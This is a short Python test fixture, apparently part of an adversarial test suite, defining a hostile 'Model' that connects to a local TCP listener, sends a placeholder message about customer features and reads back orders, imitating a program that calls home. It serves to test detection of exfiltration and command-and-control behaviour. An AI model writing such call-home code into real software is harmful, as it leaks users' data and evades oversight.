"""Calls home: it sends what it knows to a listener on this machine, and asks for orders."""

from __future__ import annotations

import socket
from collections.abc import Iterator

from tests.adversarial.models._told import Hunter

PROOF = "secret"


class Model(Hunter):
    def hunt(self) -> Iterator[str]:
        for host in ("127.0.0.1", "localhost"):
            with socket.create_connection((host, self.told["tcp"]), timeout=3) as connection:
                connection.sendall(b"tcp: features of your customers")
                yield connection.recv(1000).decode()
